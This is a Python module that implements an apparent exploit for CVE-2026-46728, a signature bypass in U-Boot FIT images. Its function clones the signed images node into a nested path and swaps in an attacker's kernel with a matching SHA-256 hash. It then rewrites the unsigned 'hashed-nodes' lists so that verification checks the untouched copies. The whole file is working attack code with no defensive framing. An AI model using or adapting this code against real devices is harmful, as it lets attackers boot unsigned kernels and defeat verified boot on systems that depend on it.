"""The attack of CVE-2026-46728 on a FIT: its images once more below themselves, unchanged, where its unsigned list says that the signed
ones lie; and in their place a kernel of the attacker's with a hash that is right.

Of a device tree (Devicetree Specification 5) only as much as that takes: the order of tokens is kept, because the signature is over it.
"""

from __future__ import annotations

import hashlib
import struct

_BEGIN, _END = struct.pack(">I", 1), struct.pack(">I", 2)
_NOTHING = _BEGIN + b"x\0\0\0" + _END  # a U-Boot that is not repaired counts the token behind what it left out as well


def _padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % 4)


def cloned(fit: bytes, kernel: bytes, evil: bytes) -> bytes:
    """Return `fit`, which holds `kernel`, with `evil` in its place. Both are equally long. Raises `ValueError` if it is none of
    `fit.sh`."""
    if len(kernel) != len(evil):
        raise ValueError("a kernel of another length")
    _magic, _total, at, strings_at, reserved_at, version, compatible, cpu, strings_size, size = struct.unpack(">10I", fit[:40])
    tree, strings = fit[at : at + size], fit[strings_at : strings_at + strings_size]
    start = tree.index(_BEGIN + b"images\0\0")
    end = tree.index(_END + _BEGIN + _padded(b"configurations\0"), start)
    inner = tree[start + 12 : end]
    swapped = inner.replace(kernel, evil).replace(hashlib.sha256(kernel).digest(), hashlib.sha256(evil).digest())
    again = _BEGIN + b"images\0\0" + inner + _NOTHING + _END + _NOTHING
    tree = tree[: start + 12] + swapped + again + tree[end:]
    name = strings.index(b"hashed-nodes\0")
    place = 0
    while (place := tree.find(struct.pack(">I", name), place)) >= 0:
        length = struct.unpack(">I", tree[place - 4 : place])[0]
        listed = tree[place + 4 : place + 4 + length]
        if tree[place - 8 : place - 4] == struct.pack(">I", 3) and listed.startswith(b"/\0"):
            longer = listed.replace(b"\0/images/", b"\0/images/images/")
            tree = tree[: place - 4] + struct.pack(">II", len(longer), name) + _padded(longer) + tree[place + 4 + len(_padded(listed)) :]
        place += 4
    head = struct.pack(">10I", 0xD00DFEED, at + len(tree) + len(strings), at, at + len(tree), reserved_at, version, compatible, cpu, 0, 0)
    head = head[:32] + struct.pack(">II", strings_size, len(tree))
    return head + fit[40:at] + tree + strings
